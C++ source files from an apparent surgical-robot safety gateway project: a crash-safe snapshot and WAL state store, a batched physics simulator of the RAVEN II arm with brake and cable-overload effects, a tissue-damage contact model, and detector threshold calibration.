  return Status::success();
}

void StateStore::serialize_snapshot(std::vector<std::uint8_t>& out, const PersistentState& state,
                                    std::uint64_t lsn) {
  out.clear();
  for (const char c : kSnapshotMagic) out.push_back(static_cast<std::uint8_t>(c));
  put_u64(out, lsn);
  put_u64(out, state.digest());
  put_u32(out, static_cast<std::uint32_t>(state.sessions.size()));
  put_u32(out, state.next_session_id);
  put_u64(out, state.epoch_id);
  put_u64(out, state.epoch_digest);
  put_u64(out, state.sketch_digest);
  put_u64(out, state.sketch_samples);
  for (const auto& [id, s] : state.sessions) {
    put_u32(out, id);
    put_u32(out, s.ip);
    put_u16(out, s.port);
    out.push_back(s.started ? 1 : 0);
    out.push_back(s.estop ? 1 : 0);
    put_u32(out, s.newest);
    put_u64(out, s.mask);
  }
  // Trailing CRC over everything after the magic.
  const std::uint32_t crc = crc32c(out.data() + sizeof(kSnapshotMagic),
                                   out.size() - sizeof(kSnapshotMagic));
  put_u32(out, crc);
}

Status StateStore::write_snapshot() {
  if (wal_fd_ < 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kNotReady, "StateStore: writer not open");
  }
  const std::uint64_t lsn = last_lsn();
  std::vector<std::uint8_t> body;
  serialize_snapshot(body, state_, lsn);

  const std::string tmp = dir_ + "/" + std::string(kSnapshotTemp);
  const std::string final_path = snapshot_path(dir_);
  const int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kNotReady,
                 "StateStore: cannot open " + tmp + ": " + std::strerror(errno));
  }
  const bool wrote = write_all(fd, body.data(), body.size());
  const bool synced = wrote && ::fsync(fd) == 0;
  (void)::close(fd);
  if (!synced) {
    ++stats_.write_errors;
    (void)::unlink(tmp.c_str());
    return Error(ErrorCode::kInternal, "StateStore: snapshot write/fsync failed for " + tmp);
  }
  if (::rename(tmp.c_str(), final_path.c_str()) != 0) {
    ++stats_.write_errors;
    (void)::unlink(tmp.c_str());
    return Error(ErrorCode::kInternal, "StateStore: rename to " + final_path + " failed");
  }
  // Make the rename itself durable before the WAL is truncated: fsync
  // the containing directory.
  const int dirfd = ::open(dir_.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dirfd >= 0) {
    (void)::fsync(dirfd);
    (void)::close(dirfd);
  }
  // The snapshot now covers every WAL record; start a fresh WAL.  LSNs
  // keep counting (recovery skips records with lsn <= snapshot lsn, so a
  // crash between rename and truncate is harmless).
  if (::ftruncate(wal_fd_, 0) != 0 || ::lseek(wal_fd_, 0, SEEK_SET) < 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kInternal, "StateStore: WAL truncate failed");
  }
  stats_.wal_bytes = 0;
  ++stats_.snapshots;
  return Status::success();
}

}  // namespace rg::persist
