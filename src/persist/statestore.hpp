// Snapshot + WAL store for the gateway's safety-critical state (file
// format "rg.state/1", docs/persistence.md).
//
// What must survive a crash: the session table's anti-replay windows
// (restart must never hand an attacker a regressed window), latched
// E-STOPs, session ids, the active ThresholdStore epoch pointer, and
// calibration sketch checkpoints.  Two files in the state directory:
//
//   state.rgsnap  — one whole-state snapshot, written to a temp file,
//                   fsync'd, then atomically renamed into place
//   state.rgwal   — CRC32C-framed mutation records (persist/record.hpp)
//                   with monotonic LSNs, fdatasync'd by the flusher;
//                   truncated after each successful snapshot rotation
//
// Recovery = newest valid snapshot + replay of WAL records with
// lsn > snapshot.lsn (persist/recovery.hpp).  Every WAL record carries
// the FNV-1a digest of the logical state *after* applying it, so replay
// is self-validating: a digest mismatch means the bytes are intact
// (CRC passed) but the state they describe is not the state that was
// persisted — recovery fails safe instead of loading it.
//
// Threading: the store is owned by the state plane's flusher thread
// (plus tests); nothing here is RG_REALTIME — the tick path talks to
// the flusher through the StateOp ring in state_plane.hpp.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "common/error.hpp"
#include "persist/record.hpp"

namespace rg::persist {

/// WAL record kinds (wire values — append-only, never renumber).
enum class WalKind : std::uint8_t {
  kSessionOpen = 1,   ///< u32 id, u32 ip, u16 port
  kSessionClose = 2,  ///< u32 id
  kWindow = 3,        ///< u32 id, u32 newest, u64 mask, u8 started
  kEstop = 4,         ///< u32 id, u8 latched
  kEpoch = 5,         ///< u64 epoch id, u64 thresholds digest
  kSketch = 6,        ///< u64 cohort digest, u64 samples
};

/// No active calibration epoch recorded.
inline constexpr std::uint64_t kNoEpoch = ~0ull;

/// One persisted session: identity plus the full anti-replay window.
struct PersistedSession {
  std::uint32_t id = 0;
  std::uint32_t ip = 0;    ///< host byte order (svc::Endpoint convention)
  std::uint16_t port = 0;
  bool started = false;    ///< window has accepted at least one datagram
  bool estop = false;      ///< PLC E-STOP latched (survives restart)
  std::uint32_t newest = 0;
  std::uint64_t mask = 0;
};

/// The complete logical state the store persists.  Sessions are keyed by
/// id (ordered map) so serialization and digests are deterministic.
struct PersistentState {
  std::map<std::uint32_t, PersistedSession> sessions;
  std::uint32_t next_session_id = 1;
  std::uint64_t epoch_id = kNoEpoch;
  std::uint64_t epoch_digest = 0;
  std::uint64_t sketch_digest = 0;
  std::uint64_t sketch_samples = 0;

  /// FNV-1a over the canonical serialization — the self-validation
  /// anchor carried by every WAL record and snapshot.
  [[nodiscard]] std::uint64_t digest() const noexcept;
};

/// FNV-1a 64 over arbitrary bytes (seeded so digests chain).
[[nodiscard]] std::uint64_t fnv1a64(const void* data, std::size_t len,
                                    std::uint64_t seed = 14695981039346656037ull) noexcept;

struct StateStoreStats {
  std::uint64_t wal_records = 0;
  std::uint64_t wal_bytes = 0;   ///< current WAL file size (since last rotation)
  std::uint64_t syncs = 0;
  std::uint64_t snapshots = 0;
  std::uint64_t write_errors = 0;
};

/// Writer half (recovery lives in persist/recovery.hpp).
class StateStore {
 public:
  static constexpr std::string_view kSnapshotFile = "state.rgsnap";
  static constexpr std::string_view kSnapshotTemp = "state.rgsnap.tmp";
  static constexpr std::string_view kWalFile = "state.rgwal";
  static constexpr char kSnapshotMagic[8] = {'R', 'G', 'S', 'N', 'A', 'P', '0', '1'};

  explicit StateStore(std::string dir);
  ~StateStore();

  StateStore(const StateStore&) = delete;
  StateStore& operator=(const StateStore&) = delete;

  /// Open the WAL for appending, seeded with a recovered (or fresh)
  /// mirror state and the LSN to continue from.  `valid_bytes` is the
  /// length of the WAL's valid prefix as decided by recovery (0 for a
  /// fresh store); anything beyond it (torn tail, benign trailing
  /// garbage) is truncated away before the first append.
  [[nodiscard]] Status open_writer(const PersistentState& state, std::uint64_t continue_lsn,
                                   std::uint64_t valid_bytes);

  // Typed mutations: apply to the mirror, append one WAL record carrying
  // the post-apply digest.  Errors are sticky in write_errors but do not
  // poison the mirror.
  Status note_open(std::uint32_t id, std::uint32_t ip, std::uint16_t port);
  Status note_close(std::uint32_t id);
  Status note_window(std::uint32_t id, std::uint32_t newest, std::uint64_t mask, bool started);
  Status note_estop(std::uint32_t id, bool latched);
  Status note_epoch(std::uint64_t epoch_id, std::uint64_t thresholds_digest);
  Status note_sketch(std::uint64_t digest, std::uint64_t samples);

  /// fdatasync the WAL (the flusher's group-commit point).
  Status sync();

  /// Serialize the mirror to the temp snapshot, fsync, rename over the
  /// snapshot, fsync the directory, then truncate the WAL.  LSNs keep
  /// counting across rotations.
  Status write_snapshot();

  /// Serialize `state` as an rg.state/1 snapshot body (shared with
  /// recovery's validation and the tests).
  static void serialize_snapshot(std::vector<std::uint8_t>& out, const PersistentState& state,
                                 std::uint64_t lsn);

  [[nodiscard]] const PersistentState& state() const noexcept { return state_; }
  [[nodiscard]] std::uint64_t last_lsn() const noexcept { return next_lsn_ - 1; }
  [[nodiscard]] const StateStoreStats& stats() const noexcept { return stats_; }
  [[nodiscard]] const std::string& dir() const noexcept { return dir_; }

  [[nodiscard]] static std::string snapshot_path(const std::string& dir);
  [[nodiscard]] static std::string wal_path(const std::string& dir);

  /// Decode + apply one WAL record payload (minus the trailing digest)
  /// to `state`.  Shared by the writer (which produced it) and recovery.
  /// Errors: kMalformedPacket on wrong body size or unknown kind.
  static Status apply_record(PersistentState& state, WalKind kind,
                             std::span<const std::uint8_t> body);

 private:
  Status append_record(WalKind kind, std::span<const std::uint8_t> body);

  std::string dir_;
  PersistentState state_;
  int wal_fd_ = -1;
  std::uint64_t next_lsn_ = 1;
  StateStoreStats stats_{};
  std::vector<std::uint8_t> encode_buf_;
};

}  // namespace rg::persist
