#include "plant/batch_plant.hpp"

#include <algorithm>
#include <cmath>

#include "common/clock.hpp"
#include "common/error.hpp"

namespace rg {

BatchPlant::BatchPlant(std::span<PhysicalRobot* const> plants)
    : model_([&]() {
        require(!plants.empty(), "BatchPlant needs at least one plant");
        return plants.front()->config().dynamics;
      }()) {
  require(plants.size() <= kBatchLanes, "BatchPlant: too many plants for the lane count");
  n_ = plants.size();
  for (std::size_t l = 0; l < n_; ++l) {
    require(plants[l] != nullptr, "BatchPlant: null plant");
    require(compatible(plants.front()->config(), plants[l]->config()),
            "BatchPlant: incompatible plant configs in one batch");
    plants_[l] = plants[l];
  }
}

bool BatchPlant::compatible(const PlantConfig& a, const PlantConfig& b) noexcept {
  PlantConfig a_modulo_seed = a;
  a_modulo_seed.seed = b.seed;
  return a_modulo_seed == b;
}

RG_REALTIME void BatchPlant::step_control_period(std::span<const PlantDrive> drives) {
  // rg-lint: allow(call) -- caller-contract check; never throws on a sized batch
  require(drives.size() == n_, "BatchPlant: one PlantDrive per lane required");

  // Phase 1 — per-lane scalar period setup (brake timing, noise draw from
  // the lane's own RNG, tissue reaction, shaft-lock velocity zeroing).
  std::array<PhysicalRobot::PeriodSetup, kBatchLanes> setups{};
  for (std::size_t l = 0; l < n_; ++l) {
    setups[l] = plants_[l]->begin_period(drives[l].currents, drives[l].brakes_engaged,
                                         kControlPeriodSec, drives[l].wrist_currents);
  }

  // Gather lane states; unused lanes replicate lane 0 so their (discarded)
  // math stays finite.
  BatchState x;
  x.set_lane(0, plants_[0]->state_);
  x.broadcast(0);
  for (std::size_t l = 1; l < n_; ++l) x.set_lane(l, plants_[l]->state_);

  // Per-period lane constants: electromagnetic torque (state-independent),
  // external effects, and shaft locks.
  BatchLanes3 currents{};
  std::array<LaneFx, kBatchLanes> fx{};
  std::array<bool, kBatchLanes> locked{};
  for (std::size_t l = 0; l < kBatchLanes; ++l) {
    const PhysicalRobot::PeriodSetup& su = setups[l < n_ ? l : 0];
    for (std::size_t i = 0; i < 3; ++i) {
      currents[i][l] = su.currents[i];
      fx[l].extra_motor_torque[i] = su.fx.extra_motor_torque[i];
      fx[l].cable_scale[i] = su.fx.cable_scale[i];
      fx[l].extra_joint_force[i] = su.fx.extra_joint_force[i];
    }
    locked[l] = su.shaft_locked;
  }
  BatchLanes3 tau_em;
  model_.tau_em_from_currents(currents, tau_em);

  // Which lanes/axes still need the post-substep overload watch (same
  // skip rule as the scalar integrate_period).
  std::array<std::array<bool, 3>, kBatchLanes> watch{};
  bool watch_any = false;
  for (std::size_t l = 0; l < n_; ++l) {
    const PhysicalRobot& plant = *plants_[l];
    for (std::size_t i = 0; i < 3; ++i) {
      watch[l][i] = !plant.snapped_[i] && plant.config_.cable_snap_threshold[i] < kNeverSnaps;
      watch_any = watch_any || watch[l][i];
    }
  }

  // Phase 2 — the batched substep loop (the scalar while-loop, lane-wide).
  const double h = plants_[0]->config_.substep;
  double remaining = kControlPeriodSec;
  while (remaining > 1e-12) {
    const double dt = std::min(h, remaining);
    model_.step_with_effects(x, tau_em, fx, locked.data(), dt, SolverKind::kRk4);

    if (watch_any) {
      BatchLanes3 tension;
      model_.cable_force(x, tension);
      watch_any = false;
      for (std::size_t l = 0; l < n_; ++l) {
        for (std::size_t i = 0; i < 3; ++i) {
          if (watch[l][i] &&
              std::abs(tension[i][l]) > plants_[l]->config_.cable_snap_threshold[i]) {
            plants_[l]->snapped_[i] = true;
            fx[l].cable_scale[i] = 0.0;
            watch[l][i] = false;
          }
          watch_any = watch_any || watch[l][i];
        }
      }
    }
    remaining -= dt;
  }

  // Phase 3 — scatter states back and run the per-lane wrist update.
  for (std::size_t l = 0; l < n_; ++l) {
    plants_[l]->state_ = x.lane(l);
    plants_[l]->finish_period(setups[l]);
  }
}

}  // namespace rg
