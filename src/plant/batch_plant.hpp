// Lane-parallel plant stepping: up to kBatchLanes PhysicalRobots advanced
// through the same control period with one batched SoA substep loop.
//
// Each lane runs the *same* per-period logic as the scalar
// PhysicalRobot::step_control_period — begin_period (brakes, noise,
// tissue) and finish_period (wrist axes) stay per-plant scalar code; only
// the 20-substep RK4 loop in the middle, which is ~all of the work, runs
// through BatchRavenModel.  Because the batched solver is bit-identical
// to the scalar one (see dynamics/batch_model.hpp), every lane's
// trajectory matches what that plant would produce stepped alone.
#pragma once

#include <array>
#include <cstddef>
#include <span>

#include "common/realtime.hpp"
#include "dynamics/batch_model.hpp"
#include "plant/physical_robot.hpp"

namespace rg {

class BatchPlant {
 public:
  /// All plants must be pairwise compatible() and at most kBatchLanes.
  /// The plants are borrowed, not owned — they must outlive the batch.
  explicit BatchPlant(std::span<PhysicalRobot* const> plants);

  /// True when two plant configs may share a batch: identical physics and
  /// integration settings; only the RNG seed may differ (each lane keeps
  /// its own noise stream).
  [[nodiscard]] static bool compatible(const PlantConfig& a, const PlantConfig& b) noexcept;

  /// Batched twin of PhysicalRobot::step_control_period: executes one
  /// control period on every lane.  drives.size() must equal lanes().
  RG_REALTIME void step_control_period(std::span<const PlantDrive> drives);

  [[nodiscard]] std::size_t lanes() const noexcept { return n_; }

 private:
  std::array<PhysicalRobot*, kBatchLanes> plants_{};
  std::size_t n_ = 0;
  BatchRavenModel model_;
};

}  // namespace rg
