#include "plant/physical_robot.hpp"

#include <cmath>

#include "common/clock.hpp"

namespace rg {

PhysicalRobot::PhysicalRobot(const PlantConfig& config)
    : config_(config), model_(config.dynamics), rng_(config.seed) {
  require(config.substep > 0.0, "plant substep must be > 0");
  require(config.substep <= kControlPeriodSec, "plant substep must be <= control period");
  state_ = model_.make_rest_state(config.dynamics.hard_stop_limits.midpoint());
}

void PhysicalRobot::set_joint_config(const JointVector& q) noexcept {
  state_ = model_.make_rest_state(q);
  snapped_ = {false, false, false};
}

RG_REALTIME void PhysicalRobot::step_control_period(const Vec3& commanded_currents,
                                                    bool brakes_engaged,
                                                    const Vec3& wrist_currents) {
  step(commanded_currents, brakes_engaged, kControlPeriodSec, wrist_currents);
}

RG_REALTIME void PhysicalRobot::step(const Vec3& commanded_currents, bool brakes_engaged,
                                     double duration, const Vec3& wrist_currents) {
  PeriodSetup setup = begin_period(commanded_currents, brakes_engaged, duration, wrist_currents);
  integrate_period(setup);
  finish_period(setup);
}

RG_REALTIME PhysicalRobot::PeriodSetup PhysicalRobot::begin_period(const Vec3& commanded_currents,
                                                                   bool brakes_engaged,
                                                                   double duration,
                                                                   const Vec3& wrist_currents) {
  PeriodSetup setup;
  setup.brakes_engaged = brakes_engaged;
  setup.duration = duration;
  setup.wrist_currents = wrist_currents;

  // Brake request timing: power to the drives is cut immediately, but the
  // spring-applied shafts lock only after the mechanical engagement delay.
  if (brakes_engaged) {
    brake_request_elapsed_ += duration;
  } else {
    brake_request_elapsed_ = 0.0;
  }
  setup.shaft_locked =
      brakes_engaged && brake_request_elapsed_ >= config_.brake_engage_delay;

  // Drive-current noise is band-limited: one sample held for the whole
  // control period (the drive stage is far faster than the mechanics).
  setup.currents = commanded_currents;
  if (setup.shaft_locked) {
    // The holding brakes are sized well above any reflected load, so we
    // model them as a kinematic lock.  Joint and cable dynamics keep
    // evolving — the arm can still sag onto the stretched cables.
    setup.currents = Vec3::zero();
    RavenDynamicsModel::set_motor_vel(state_, Vec3::zero());
  } else if (brakes_engaged) {
    // Power already cut, brakes still closing: the shafts coast.
    setup.currents = Vec3::zero();
  } else {
    for (std::size_t i = 0; i < 3; ++i) {
      setup.currents[i] += rng_.normal(0.0, config_.current_noise_stddev);
    }
  }

  for (std::size_t i = 0; i < 3; ++i) setup.fx.cable_scale[i] = snapped_[i] ? 0.0 : 1.0;

  // Tissue contact: evaluate at the period start and hold the reaction
  // over the step (the contact dynamics are far slower than the substep).
  if (tissue_) {
    const JointVector q = RavenDynamicsModel::joint_pos(state_);
    const JointVector qd = RavenDynamicsModel::joint_vel(state_);
    const Mat3 jac = kinematics_.jacobian(q);
    const TissueContact contact = tissue_->update(kinematics_.forward(q), jac * qd);
    // Generalized joint force = J^T F.
    setup.fx.extra_joint_force = jac.transpose() * contact.force;
  }
  return setup;
}

RG_REALTIME void PhysicalRobot::integrate_period(PeriodSetup& setup) {
  // The derivative closure is loop-invariant: build it once per period,
  // not once per substep (it reads the snap state through setup.fx).
  const auto f = [this, &setup](double /*t*/, const RavenDynamicsModel::State& s) {
    RavenDynamicsModel::State dx = model_.derivative(s, setup.currents, setup.fx);
    if (setup.shaft_locked) {
      // Locked shafts: motor position and velocity derivatives vanish.
      for (std::size_t i = 0; i < 6; ++i) dx[i] = 0.0;
    }
    return dx;
  };

  // Post-substep cable tension is only needed while some axis can still
  // snap: intact, with a finite threshold.
  std::array<bool, 3> watch{};
  bool watch_any = false;
  for (std::size_t i = 0; i < 3; ++i) {
    watch[i] = !snapped_[i] && config_.cable_snap_threshold[i] < kNeverSnaps;
    watch_any = watch_any || watch[i];
  }

  const double h = config_.substep;
  double remaining = setup.duration;
  while (remaining > 1e-12) {
    const double dt = std::min(h, remaining);
    state_ = rk4_step(f, 0.0, state_, dt);

    if (watch_any) {
      // Cable overload check at the new state.
      const Vec3 tension = model_.cable_force(state_);
      for (std::size_t i = 0; i < 3; ++i) {
        if (watch[i] && std::abs(tension[i]) > config_.cable_snap_threshold[i]) {
          snapped_[i] = true;
          setup.fx.cable_scale[i] = 0.0;
          watch[i] = false;
        }
      }
      watch_any = watch[0] || watch[1] || watch[2];
    }
    remaining -= dt;
  }
}

RG_REALTIME void PhysicalRobot::finish_period(const PeriodSetup& setup) noexcept {
  // Wrist/instrument axes: small independent motors, first order in
  // velocity (their mechanics are much faster and lighter than the
  // positioning stage, so a per-control-period semi-implicit update is
  // ample).  Brakes hold them like the main shafts.
  if (setup.shaft_locked) {
    wrist_vel_ = Vec3::zero();
    return;
  }
  for (std::size_t i = 0; i < 3; ++i) {
    const double drive = setup.brakes_engaged ? 0.0 : setup.wrist_currents[i];
    const double accel =
        (config_.wrist_torque_constant * drive - config_.wrist_damping * wrist_vel_[i]) /
        config_.wrist_inertia;
    wrist_vel_[i] += setup.duration * accel;
    wrist_pos_[i] += setup.duration * wrist_vel_[i];
  }
}

}  // namespace rg
