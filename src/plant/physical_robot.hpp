// Ground-truth physical robot ("the plant").
//
// This stands in for the physical RAVEN II: the same motor/cable/link
// physics family as the detector's dynamic model, but integrated at a
// fine RK4 substep with effects the detector's model does not know about:
//   - torque ripple / drive-current noise,
//   - fail-safe power-off brakes (PLC controlled),
//   - mechanical hard stops at the joint limits,
//   - cable overload damage (the paper observed attack-induced abrupt
//     jumps snapping cables on the real robot),
//   - independently perturbed physical parameters (manufacturing spread).
//
// Nothing in the detection path reads this object directly — the control
// software and detector see only encoder counts and DAC commands, as on
// the real system.
#pragma once

#include <array>
#include <cstdint>

#include <optional>

#include "common/realtime.hpp"
#include "common/rng.hpp"
#include "dynamics/raven_model.hpp"
#include "kinematics/raven_kinematics.hpp"
#include "kinematics/types.hpp"
#include "plant/tissue.hpp"

namespace rg {

struct PlantConfig {
  RavenDynamicsParams dynamics = []() {
    RavenDynamicsParams p = RavenDynamicsParams::raven_defaults();
    p.enforce_hard_stops = true;
    return p;
  }();
  /// Integration substep for ground truth (s).
  double substep = 5.0e-5;
  /// Std-dev of drive-current noise, re-sampled each control period (A).
  double current_noise_stddev = 0.01;
  /// Spring-applied fail-safe brakes need mechanical engagement time;
  /// power to the drives is cut immediately, but the shafts only lock
  /// after the request has persisted this long (s).
  double brake_engage_delay = 0.05;
  /// Cable snap thresholds, joint side (N*m, N*m, N).
  std::array<double, 3> cable_snap_threshold{40.0, 40.0, 400.0};
  /// RNG seed for this plant instance.
  std::uint64_t seed = 1;

  // --- Wrist/instrument axes (channels 3-5) -------------------------------
  // The four instrument DOF mainly set end-effector *orientation* (paper
  // Sec. IV); they are modelled as three independent small motor axes
  // (first-order in velocity) so the wire protocol and attack surface are
  // complete, while the detector's reduced model deliberately ignores
  // them.
  double wrist_inertia = 1.0e-5;        ///< kg*m^2 per axis
  double wrist_damping = 2.0e-4;        ///< N*m*s/rad
  double wrist_torque_constant = 0.0138;  ///< N*m/A (small RE motor)

  friend constexpr bool operator==(const PlantConfig&, const PlantConfig&) = default;
};

/// Snap thresholds at or above this value mean "this cable never snaps";
/// the plant then skips the per-substep tension recomputation entirely.
inline constexpr double kNeverSnaps = 1.0e18;

/// One control period's drive inputs as resolved by the simulator's tick
/// logic — everything the plant needs to execute the period.
struct PlantDrive {
  Vec3 currents{};
  bool brakes_engaged = false;
  Vec3 wrist_currents{};
};

class PhysicalRobot {
 public:
  explicit PhysicalRobot(const PlantConfig& config = {});

  /// Teleport to a rest configuration (used before homing / in tests).
  void set_joint_config(const JointVector& q) noexcept;

  /// Simulate one control period (1 ms): integrates the plant ODE at the
  /// configured substep under the latched motor currents and brake state.
  /// `wrist_currents` drive the three instrument axes (channels 3-5).
  RG_REALTIME void step_control_period(const Vec3& commanded_currents, bool brakes_engaged,
                                       const Vec3& wrist_currents = Vec3::zero());

  /// Same, for an arbitrary duration (s).
  RG_REALTIME void step(const Vec3& commanded_currents, bool brakes_engaged, double duration,
                        const Vec3& wrist_currents = Vec3::zero());

  [[nodiscard]] RG_REALTIME MotorVector motor_positions() const noexcept {
    return RavenDynamicsModel::motor_pos(state_);
  }
  [[nodiscard]] RG_REALTIME MotorVector motor_velocities() const noexcept {
    return RavenDynamicsModel::motor_vel(state_);
  }
  [[nodiscard]] RG_REALTIME JointVector joint_positions() const noexcept {
    return RavenDynamicsModel::joint_pos(state_);
  }
  [[nodiscard]] RG_REALTIME JointVector joint_velocities() const noexcept {
    return RavenDynamicsModel::joint_vel(state_);
  }

  /// Ground-truth end-effector position.
  [[nodiscard]] RG_REALTIME Position end_effector() const noexcept {
    return kinematics_.forward(joint_positions());
  }

  /// Wrist motor shaft angles (channels 3-5) — the end-effector
  /// orientation pass-through.
  [[nodiscard]] RG_REALTIME const Vec3& wrist_positions() const noexcept { return wrist_pos_; }
  [[nodiscard]] const Vec3& wrist_velocities() const noexcept { return wrist_vel_; }

  /// Place a compliant tissue surface in the workspace.  Contact forces
  /// feed back into the arm; perforation/shear damage latches (the harm
  /// metric behind the paper's injury narrative).
  void add_tissue(const TissueParams& params) { tissue_.emplace(params); }
  [[nodiscard]] const TissueModel* tissue() const noexcept {
    return tissue_ ? &*tissue_ : nullptr;
  }

  /// True once any cable has exceeded its overload threshold; that axis
  /// is mechanically decoupled from its motor from then on.
  [[nodiscard]] bool cable_snapped() const noexcept {
    return snapped_[0] || snapped_[1] || snapped_[2];
  }
  [[nodiscard]] const std::array<bool, 3>& snapped_axes() const noexcept { return snapped_; }

  [[nodiscard]] const RavenDynamicsModel& model() const noexcept { return model_; }
  [[nodiscard]] const RavenKinematics& kinematics() const noexcept { return kinematics_; }
  [[nodiscard]] const PlantConfig& config() const noexcept { return config_; }

 private:
  /// Everything begin_period resolves for one control period.  step()
  /// consumes it through integrate_period (scalar substeps); BatchPlant
  /// consumes it through its lane-parallel substep loop instead.
  struct PeriodSetup {
    Vec3 currents{};          ///< actual drive currents (noise applied)
    bool shaft_locked = false;
    bool brakes_engaged = false;
    ExternalEffects fx{};
    double duration = 0.0;
    Vec3 wrist_currents{};
  };

  /// Brake timing, drive-noise sampling, shaft-lock velocity zeroing, and
  /// the period-held external effects (cable damage + tissue reaction).
  RG_REALTIME PeriodSetup begin_period(const Vec3& commanded_currents, bool brakes_engaged,
                                       double duration, const Vec3& wrist_currents);
  /// The scalar substep loop: RK4 at config().substep plus the cable
  /// overload watch.
  RG_REALTIME void integrate_period(PeriodSetup& setup);
  /// Wrist/instrument axes (per-period semi-implicit update).
  RG_REALTIME void finish_period(const PeriodSetup& setup) noexcept;

  friend class BatchPlant;

  PlantConfig config_;
  RavenDynamicsModel model_;
  RavenKinematics kinematics_;
  RavenDynamicsModel::State state_{};
  Vec3 wrist_pos_{};
  Vec3 wrist_vel_{};
  std::optional<TissueModel> tissue_{};
  std::array<bool, 3> snapped_{false, false, false};
  double brake_request_elapsed_ = 1.0e9;  // brakes start locked (power off)
  Pcg32 rng_;
};

}  // namespace rg
