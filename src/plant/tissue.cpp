#include "plant/tissue.hpp"

#include <algorithm>
#include <cmath>

namespace rg {

TissueModel::TissueModel(const TissueParams& params) : params_(params) {
  require(std::abs(params.normal.norm() - 1.0) < 1e-6, "tissue normal must be unit length");
  require(params.stiffness > 0.0 && params.damping >= 0.0, "tissue stiffness/damping invalid");
  require(params.rupture_depth > 0.0, "rupture_depth must be > 0");
  require(params.shear_speed_limit > 0.0, "shear_speed_limit must be > 0");
}

RG_REALTIME TissueContact TissueModel::update(const Position& tool,
                                              const Vec3& tool_velocity) noexcept {
  TissueContact contact;

  // Signed distance above the surface; indentation is its negative part.
  const double height = (tool - params_.surface_point).dot(params_.normal);
  contact.depth = std::max(0.0, -height);
  max_depth_ = std::max(max_depth_, contact.depth);

  if (contact.depth > 0.0) {
    if (contact.depth > params_.rupture_depth) perforated_ = true;

    if (contact.depth > params_.shear_engage_depth) {
      const double normal_speed = tool_velocity.dot(params_.normal);
      const Vec3 lateral = tool_velocity - normal_speed * params_.normal;
      if (lateral.norm() > params_.shear_speed_limit) sheared_ = true;
    }

    if (!perforated_) {
      // Kelvin-Voigt: spring on indentation, damper on the approach rate
      // (force only pushes outward, never sucks the tool in).
      const double approach = -tool_velocity.dot(params_.normal);
      const double magnitude = std::max(
          0.0, params_.stiffness * contact.depth + params_.damping * approach);
      contact.force = magnitude * params_.normal;
    }
    // A perforated surface offers no further resistance.
  }

  contact.perforated = perforated_;
  contact.sheared = sheared_;
  return contact;
}

}  // namespace rg
