// Tissue interaction model — quantifying the paper's harm narrative.
//
// The paper frames the danger of abrupt jumps in clinical terms: "tearing
// or perforation of tissues if the instruments were inside the body",
// citing the FDA adverse-event record.  This module gives the simulator a
// compliant tissue surface so that harm becomes a measurable outcome
// rather than prose: the tool may *indent* the tissue elastically (normal
// surgical contact), but driving it past the rupture depth — or dragging
// it laterally faster than the shear limit while embedded — tears it.
//
// The tissue is a plane (point + inward normal) with a Kelvin-Voigt
// response; its reaction force feeds back into the arm dynamics through
// the Jacobian transpose, so contact also changes how attacks propagate.
#pragma once

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "kinematics/raven_kinematics.hpp"
#include "kinematics/types.hpp"

namespace rg {

struct TissueParams {
  /// A point on the tissue surface (m, arm base frame).
  Position surface_point{0.09, 0.0, -0.125};
  /// Unit normal pointing *out of* the tissue (towards the tool).
  Vec3 normal{0.0, 0.0, 1.0};
  /// Contact stiffness and damping (N/m, N*s/m) — soft-tissue scale.
  double stiffness = 400.0;
  double damping = 4.0;
  /// Elastic limit: indentation beyond this perforates (m).  ~6 mm is a
  /// generous bound for delicate structures.
  double rupture_depth = 6.0e-3;
  /// Lateral tool speed that tears embedded tissue (m/s).
  double shear_speed_limit = 0.15;
  /// Indentation below which shear cannot tear (the tool is barely
  /// touching).
  double shear_engage_depth = 1.0e-3;
};

/// Per-step contact evaluation result.
struct TissueContact {
  double depth = 0.0;          ///< indentation along -normal (m), >= 0
  Vec3 force{};                ///< reaction force on the tool (N)
  bool perforated = false;     ///< depth exceeded the rupture limit
  bool sheared = false;        ///< lateral tear while embedded
};

class TissueModel {
 public:
  explicit TissueModel(const TissueParams& params = {});

  /// Evaluate contact for a tool position/velocity.  Latches damage: once
  /// perforated or sheared, the flags stay set (and a ruptured surface no
  /// longer pushes back).
  RG_REALTIME TissueContact update(const Position& tool, const Vec3& tool_velocity) noexcept;

  [[nodiscard]] bool perforated() const noexcept { return perforated_; }
  [[nodiscard]] bool sheared() const noexcept { return sheared_; }
  [[nodiscard]] bool damaged() const noexcept { return perforated_ || sheared_; }
  [[nodiscard]] double max_depth() const noexcept { return max_depth_; }
  [[nodiscard]] const TissueParams& params() const noexcept { return params_; }

  void reset() noexcept {
    perforated_ = sheared_ = false;
    max_depth_ = 0.0;
  }

 private:
  TissueParams params_;
  bool perforated_ = false;
  bool sheared_ = false;
  double max_depth_ = 0.0;
};

}  // namespace rg
