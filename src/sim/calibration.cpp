#include "sim/calibration.hpp"

#include <algorithm>

namespace rg {

CalibrationSession::CalibrationSession(double target_quantile) : sketch_(target_quantile) {}

RG_REALTIME RG_DETERMINISTIC void CalibrationSession::observe(const Prediction& pred) noexcept {
  if (!pred.valid) return;
  for (std::size_t i = 0; i < 3; ++i) {
    current_.motor_vel[i] = std::max(current_.motor_vel[i], pred.motor_instant_vel[i]);
    current_.motor_acc[i] = std::max(current_.motor_acc[i], pred.motor_instant_acc[i]);
    current_.joint_vel[i] = std::max(current_.joint_vel[i], pred.joint_instant_vel[i]);
  }
  current_.any = true;
}

void CalibrationSession::end_run() noexcept {
  if (!current_.any) return;
  sketch_.commit_maxima(current_.motor_vel, current_.motor_acc, current_.joint_vel);
  current_ = Maxima{};
}

Result<DetectionThresholds> CalibrationSession::extract(double percentile_value,
                                                        double margin) const {
  if (runs() == 0) {
    return Error(ErrorCode::kNotReady, "CalibrationSession::extract: no fault-free runs committed");
  }
  return sketch_.extract(percentile_value, margin);
}

RG_DETERMINISTIC void CalibrationSession::merge(const CalibrationSession& other) {
  sketch_.merge(other.sketch_);
}

void CalibrationSession::reset() noexcept {
  current_ = Maxima{};
  sketch_.reset();
}

}  // namespace rg
